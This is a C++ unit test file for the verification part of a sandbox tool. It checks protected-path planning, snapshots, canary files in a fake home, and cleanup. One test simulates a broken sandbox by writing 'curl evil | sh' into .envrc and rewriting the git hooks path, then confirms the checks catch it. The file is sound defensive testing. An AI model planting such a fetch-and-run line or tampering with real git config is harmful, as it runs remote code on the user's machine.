// Unit tests for the host side of verify: protected-path planning, snapshots, the spec round
// trip, and prepare/check/cleanup against a fake home.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include <algorithm>
#include <cstring>
#include <fstream>

#include "base/files.h"
#include "verify/plan.h"
#include "verify/protected_plan.h"
#include "verify/snapshot.h"
#include "verify/spec.h"

namespace cordon::verify {
namespace {

bool contains(const std::vector<std::string>& v, const std::string& s) {
  return std::find(v.begin(), v.end(), s) != v.end();
}

bool exists(const std::string& path) {
  struct stat st;
  return ::lstat(path.c_str(), &st) == 0;
}

const std::vector<std::string> kBuiltins = {".git/hooks/", ".git/config", ".git/info/",
                                            "cordon.toml", ".envrc",      ".vscode/",
                                            ".mcp.json",   ".bashrc"};

TEST(VerifyProtected, ParsesPolicyEntries) {
  auto entries = parse_protected(
      {"./.envrc", ".vscode/", ".git//", "", "/etc/passwd", "../x", "a/../b", ".envrc", "ab"});
  ASSERT_EQ(entries.size(), 4u);
  EXPECT_EQ(entries[0].path, ".envrc");
  EXPECT_FALSE(entries[0].directory);
  EXPECT_EQ(entries[1].path, ".vscode");
  EXPECT_TRUE(entries[1].directory);
  EXPECT_EQ(entries[2].path, ".git");
  EXPECT_EQ(entries[3].path, "ab");
}

TEST(VerifyProtected, MatchesEntriesAndWhatLiesBeneath) {
  auto entries = parse_protected({".git/hooks/", ".envrc"});
  EXPECT_TRUE(is_protected(entries, ".git/hooks"));
  EXPECT_TRUE(is_protected(entries, ".git/hooks/pre-commit"));
  EXPECT_TRUE(is_protected(entries, ".envrc"));
  EXPECT_FALSE(is_protected(entries, ".git"));
  EXPECT_FALSE(is_protected(entries, ".git/hooksx"));
  EXPECT_FALSE(is_protected(entries, ".envrc.bak"));
}

TEST(VerifyProtected, PlansWritesCreatesAndRenames) {
  ProtectedPlan plan = plan_protected(parse_protected(kBuiltins));
  const auto& a = plan.attacks;
  EXPECT_TRUE(contains(a.writes, ".git/config"));
  EXPECT_TRUE(contains(a.writes, ".git/hooks/pre-commit"));
  EXPECT_FALSE(contains(a.writes, ".git/HEAD"));  // planted, but not protected
  EXPECT_FALSE(contains(a.writes, kControlFile));
  EXPECT_TRUE(contains(a.creates, ".envrc"));
  EXPECT_TRUE(contains(a.creates, ".mcp.json"));
  EXPECT_TRUE(contains(a.creates, "cordon.toml"));
  EXPECT_TRUE(contains(a.creates, ".vscode/cordon-verify-new"));
  EXPECT_TRUE(contains(a.creates, ".git/hooks/cordon-verify-new"));
  EXPECT_FALSE(contains(a.creates, ".git/config"));  // exists: attacked by a write
  EXPECT_TRUE(contains(a.renames, ".git"));
  EXPECT_TRUE(contains(a.renames, ".git/hooks"));
  // .git/info/ lies under an unprotected .git: planted, so renaming .git is the attack.
  EXPECT_TRUE(contains(a.writes, ".git/info/cordon-verify-planted"));
}

TEST(VerifyProtected, PlantsNestedEntriesUnderAnUnprotectedParent) {
  ProtectedPlan plan = plan_protected(parse_protected({"config/secrets.yml", ".vscode/"}));
  auto planted = [&](const std::string& rel) {
    return std::any_of(plan.plant.begin(), plan.plant.end(),
                       [&](const auto& p) { return p.first == rel; });
  };
  EXPECT_TRUE(planted("config/secrets.yml"));
  EXPECT_FALSE(planted(".vscode/cordon-verify-planted"));  // top-level entry: left absent
  EXPECT_TRUE(contains(plan.attacks.writes, "config/secrets.yml"));
  EXPECT_TRUE(contains(plan.attacks.renames, "config"));
}

TEST(VerifyProtected, EveryAttackTargetsAProtectedPath) {
  auto entries = parse_protected(kBuiltins);
  ProtectedPlan plan = plan_protected(entries);
  for (const auto& rel : plan.attacks.writes) EXPECT_TRUE(is_protected(entries, rel)) << rel;
  for (const auto& rel : plan.attacks.creates) EXPECT_TRUE(is_protected(entries, rel)) << rel;
}

TEST(VerifyProtected, NoEntriesMeansNoAttacks) {
  ProtectedPlan plan = plan_protected({});
  EXPECT_TRUE(plan.attacks.writes.empty());
  EXPECT_TRUE(plan.attacks.creates.empty());
  EXPECT_TRUE(plan.attacks.renames.empty());
  EXPECT_FALSE(plan.plant.empty());  // the control file and .git are always there
}

TEST(VerifySnapshot, DiffReportsChangesAndToleratesEmptyPlaceholders) {
  Snapshot before = {{".git/config", {'f', 0644, 10, 1}}, {".git", {'d', 0755, 0, 0}}};
  Snapshot after = before;
  EXPECT_TRUE(diff_snapshots(before, after).empty());

  after[".envrc"] = {'f', 0644, 0, 0};  // an empty placeholder the launcher left
  after[".vscode"] = {'d', 0755, 0, 0};
  EXPECT_TRUE(diff_snapshots(before, after).empty());

  after[".git/config"].hash = 2;
  after[".mcp.json"] = {'f', 0644, 5, 9};
  after.erase(".git");
  auto diff = diff_snapshots(before, after);
  EXPECT_TRUE(contains(diff, "changed .git/config"));
  EXPECT_TRUE(contains(diff, "removed .git"));
  EXPECT_TRUE(contains(diff, "created .mcp.json"));
  EXPECT_EQ(diff.size(), 3u);
}

ProbeSpec sample_spec() {
  ProbeSpec s;
  s.workspace = "/tmp/cordon-verify-abc/workspace";
  s.host_home = "/home/u";
  s.workspace_writable = false;
  s.box_uid = 1000;
  s.host_pid = 4242;
  s.host_comm = "cordon";
  s.host_start_ticks = 123456;
  s.start_time_ms = 1700000000000;
  s.host_namespaces = {{"user", 4026531837}, {"net", 4026531833}};
  s.pids_limit = 64;
  s.memory_limit_bytes = 256 << 20;
  s.memory_is_cgroup = true;
  s.tmp_limit_bytes = 32 << 20;
  s.canaries = {"/home/u/.ssh/cordon-verify-canary-1", "/home/u/.aws/cordon-verify-canary-1"};
  s.hidden_paths = {"/home/u/.ssh", "/run/dbus"};
  s.escape_link = s.workspace + "/escape-link";
  s.control_link = s.workspace + "/control-link";
  s.control_file = s.workspace + "/notes.txt";
  s.host_tmp_marker = "/tmp/cordon-verify-abc/host-tmp-marker";
  s.ssh_agent_socket = "/tmp/cordon-verify-abc/ssh-agent.sock";
  s.abstract_socket = "cordon-verify-1";
  s.home_write_name = ".cordon-verify-home-write-1";
  s.system_write_name = ".cordon-verify-1";
  s.host_sockets = {"/run/docker.sock"};
  s.protected_attacks = {{".git/config"}, {".envrc"}, {".git"}};
  s.leaked_fds = {{5, "a canary file"}, {6, "the scratch directory"}};
  s.daemon_marker = s.workspace + "/.cordon-verify-daemon-survived";
  s.daemon_comm = "cvd-1";
  return s;
}

TEST(VerifySpec, RoundTrips) {
  ProbeSpec spec = sample_spec();
  auto parsed = parse_spec(serialize_spec(spec));
  ASSERT_TRUE(parsed.ok()) << parsed.error().describe();
  EXPECT_EQ(*parsed, spec);
}

TEST(VerifySpec, RejectsMalformedAndIncompleteSpecs) {
  EXPECT_FALSE(parse_spec("").ok());
  EXPECT_FALSE(parse_spec("not json").ok());
  EXPECT_FALSE(parse_spec("[]").ok());
  auto j = nlohmann::json::parse(serialize_spec(sample_spec()));
  j.erase("canaries");
  auto missing = parse_spec(j.dump());
  ASSERT_FALSE(missing.ok());
  EXPECT_NE(missing.error().message().find("canaries"), std::string::npos);
  j = nlohmann::json::parse(serialize_spec(sample_spec()));
  j["pids_limit"] = "lots";
  EXPECT_FALSE(parse_spec(j.dump()).ok());
  j = nlohmann::json::parse(serialize_spec(sample_spec()));
  j["version"] = kSpecVersion + 1;
  EXPECT_FALSE(parse_spec(j.dump()).ok());
}

// prepare_verify against a fake home; cleanup must leave the home as it found it.
class VerifyPrepare : public ::testing::Test {
 protected:
  void SetUp() override {
    char dir[] = "/tmp/cordon-verify-test-home-XXXXXX";
    ASSERT_NE(::mkdtemp(dir), nullptr);
    home_ = dir;
    ASSERT_EQ(::mkdir((home_ + "/.aws").c_str(), 0700), 0);  // one existing, one missing
    options_.host_home = home_;
    options_.workspace_writable = true;
    options_.pids_limit = 64;
    options_.memory_limit_bytes = 128 << 20;
    options_.tmp_limit_bytes = 16 << 20;
    options_.protected_paths = kBuiltins;
    options_.hidden_paths = {home_ + "/.ssh", "/run/dbus"};
  }
  void TearDown() override {
    ::rmdir((home_ + "/.aws").c_str());
    ::rmdir(home_.c_str());
  }
  std::string home_;
  VerifyOptions options_;
};

TEST_F(VerifyPrepare, PlantsEverythingAndWritesTheSpec) {
  auto plan = prepare_verify(options_);
  ASSERT_TRUE(plan.ok()) << plan.error().describe();
  struct stat st;
  ASSERT_EQ(::stat(plan->scratch_dir.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0700u);
  EXPECT_EQ(plan->workspace, plan->scratch_dir + "/workspace");
  EXPECT_EQ(plan->results_path, plan->scratch_dir + "/probe-results.jsonl");
  EXPECT_EQ(plan->probe_argv, (std::vector<std::string>{kProbeBoxPath, "--spec", plan->spec_path}));
  ASSERT_EQ(plan->extra_environment.size(), 1u);
  EXPECT_EQ(plan->extra_environment[0], "SSH_AUTH_SOCK=" + plan->spec.ssh_agent_socket);

  auto text = read_file(plan->spec_path);
  ASSERT_TRUE(text.ok());
  auto spec = parse_spec(*text);
  ASSERT_TRUE(spec.ok());
  EXPECT_EQ(*spec, plan->spec);
  EXPECT_EQ(spec->box_uid, ::getuid());
  EXPECT_EQ(spec->pids_limit, 64u);

  ASSERT_EQ(spec->canaries.size(), 2u);
  for (const auto& c : spec->canaries) EXPECT_TRUE(exists(c)) << c;
  EXPECT_EQ(spec->canaries[0].rfind(home_ + "/.ssh/cordon-verify-canary-", 0), 0u);
  char target[4096] = {};
  ASSERT_GT(::readlink(spec->escape_link.c_str(), target, sizeof target - 1), 0);
  EXPECT_EQ(std::string(target), spec->canaries[0]);
  EXPECT_TRUE(exists(plan->workspace + "/.git/hooks/pre-commit"));
  EXPECT_TRUE(exists(spec->control_file));
  EXPECT_FALSE(exists(plan->workspace + "/.envrc"));  // missing protected names stay missing
  EXPECT_TRUE(exists(spec->host_tmp_marker));

  // The leaked fds are open and inheritable.
  ASSERT_EQ(plan->leaked_fds.size(), 2u);
  for (const auto& fd : plan->leaked_fds) {
    int flags = ::fcntl(fd.get(), F_GETFD);
    ASSERT_GE(flags, 0);
    EXPECT_EQ(flags & FD_CLOEXEC, 0);
  }
  cleanup(*plan);
}

TEST_F(VerifyPrepare, HostChecksPassOnAnUntouchedPlan) {
  auto plan = prepare_verify(options_);
  ASSERT_TRUE(plan.ok()) << plan.error().describe();
  plan->daemon_grace_ms = 0;
  auto findings = check_host_after(*plan);
  ASSERT_GE(findings.size(), 7u);
  for (const auto& f : findings) EXPECT_TRUE(f.pass) << f.attack << ": " << f.got;
  cleanup(*plan);
}

TEST_F(VerifyPrepare, HostChecksCatchWhatABrokenBoxLetThrough) {
  auto plan = prepare_verify(options_);
  ASSERT_TRUE(plan.ok()) << plan.error().describe();
  plan->daemon_grace_ms = 0;
  const ProbeSpec& spec = plan->spec;
  // What the probe does when the walls are missing.
  std::ofstream(plan->workspace + "/.git/config", std::ios::app) << "[core]\n\thooksPath = x\n";
  std::ofstream(plan->workspace + "/.envrc") << "curl evil | sh\n";
  std::ofstream(home_ + "/" + spec.home_write_name) << "x";
  std::ofstream(spec.daemon_marker) << "survived";
  int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  std::strcpy(addr.sun_path, spec.ssh_agent_socket.c_str());
  ASSERT_EQ(::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr), 0);

  auto findings = check_host_after(*plan);
  auto failed = [&](const std::string& needle) {
    return std::any_of(findings.begin(), findings.end(), [&](const Finding& f) {
      return !f.pass && f.attack.find(needle) != std::string::npos;
    });
  };
  EXPECT_TRUE(failed("real home"));
  EXPECT_TRUE(failed("protected files unchanged"));
  EXPECT_TRUE(failed("fake ssh-agent"));
  EXPECT_TRUE(failed("marker"));
  EXPECT_FALSE(failed("abstract socket"));
  ::close(fd);
  cleanup(*plan);
  EXPECT_FALSE(exists(home_ + "/" + spec.home_write_name));
}

TEST_F(VerifyPrepare, CleanupRemovesEverythingPlanted) {
  auto plan = prepare_verify(options_);
  ASSERT_TRUE(plan.ok()) << plan.error().describe();
  std::string scratch = plan->scratch_dir;
  auto canaries = plan->spec.canaries;
  cleanup(*plan);
  cleanup(*plan);  // idempotent
  EXPECT_FALSE(exists(scratch));
  for (const auto& c : canaries) EXPECT_FALSE(exists(c)) << c;
  EXPECT_FALSE(exists(home_ + "/.ssh"));  // created by prepare_verify: removed
  EXPECT_TRUE(exists(home_ + "/.aws"));   // the user's own: kept
  EXPECT_TRUE(plan->leaked_fds.empty());
}

TEST_F(VerifyPrepare, OverlappingRunsLeaveNoDirectoryBehind) {
  auto first = prepare_verify(options_);
  ASSERT_TRUE(first.ok()) << first.error().describe();
  auto second = prepare_verify(options_);  // finds ~/.ssh made by the first
  ASSERT_TRUE(second.ok()) << second.error().describe();
  cleanup(*first);
  EXPECT_TRUE(exists(second->spec.canaries[0]));  // the first run leaves the second's alone
  cleanup(*second);
  EXPECT_FALSE(exists(home_ + "/.ssh"));
  EXPECT_TRUE(exists(home_ + "/.aws"));
}

TEST_F(VerifyPrepare, SweepsCanariesOfADeadRun) {
  ASSERT_EQ(::mkdir((home_ + "/.ssh").c_str(), 0700), 0);
  std::string stale = home_ + "/.ssh/cordon-verify-canary-dead";
  std::ofstream(stale) << "old";
  struct timespec old_times[2] = {{1000, 0}, {1000, 0}};
  ASSERT_EQ(::utimensat(AT_FDCWD, stale.c_str(), old_times, 0), 0);
  auto plan = prepare_verify(options_);
  ASSERT_TRUE(plan.ok()) << plan.error().describe();
  cleanup(*plan);
  EXPECT_FALSE(exists(stale));
  EXPECT_TRUE(exists(home_ + "/.ssh"));  // not created by verify: kept
  ::rmdir((home_ + "/.ssh").c_str());
}

TEST_F(VerifyPrepare, KeepsADirectoryTheUserFilledMeanwhile) {
  auto plan = prepare_verify(options_);
  ASSERT_TRUE(plan.ok()) << plan.error().describe();
  std::string key = home_ + "/.ssh/id_ed25519";
  std::ofstream(key) << "key";
  cleanup(*plan);
  EXPECT_TRUE(exists(key));
  ::unlink(key.c_str());
  ::rmdir((home_ + "/.ssh").c_str());
}

TEST(VerifyPrepareErrors, RejectsARelativeHome) {
  VerifyOptions options;
  options.host_home = "relative/home";
  EXPECT_FALSE(prepare_verify(options).ok());
}

TEST(VerifyPrepareErrors, CleansUpWhenPlantingFails) {
  VerifyOptions options;
  options.host_home = "/nonexistent-cordon-verify-home";  // canaries cannot be planted
  auto plan = prepare_verify(options);
  ASSERT_FALSE(plan.ok());
  EXPECT_NE(plan.error().message().find("prepare verify"), std::string::npos);
}

}  // namespace
}  // namespace cordon::verify

namespace cordon::verify {
namespace {

TEST(VerifyProtectedPlan, EntriesProtectedOnlyWhenPresentArePlantedAndWriteAttacked) {
  auto entries = parse_protected({".bashrc", ".envrc"}, {".bashrc"});
  ASSERT_EQ(entries.size(), 2u);
  EXPECT_TRUE(entries[0].only_if_present);
  EXPECT_FALSE(entries[1].only_if_present);
  ProtectedPlan plan = plan_protected(entries);
  auto planted = [&](const std::string& rel) {
    for (const auto& p : plan.plant) if (p.first == rel) return true;
    return false;
  };
  auto has = [](const std::vector<std::string>& v, const std::string& x) {
    return std::find(v.begin(), v.end(), x) != v.end();
  };
  EXPECT_TRUE(planted(".bashrc"));
  EXPECT_TRUE(has(plan.attacks.writes, ".bashrc"));
  EXPECT_FALSE(has(plan.attacks.creates, ".bashrc"));
  EXPECT_FALSE(planted(".envrc"));
  EXPECT_TRUE(has(plan.attacks.creates, ".envrc"));
}

}  // namespace
}  // namespace cordon::verify
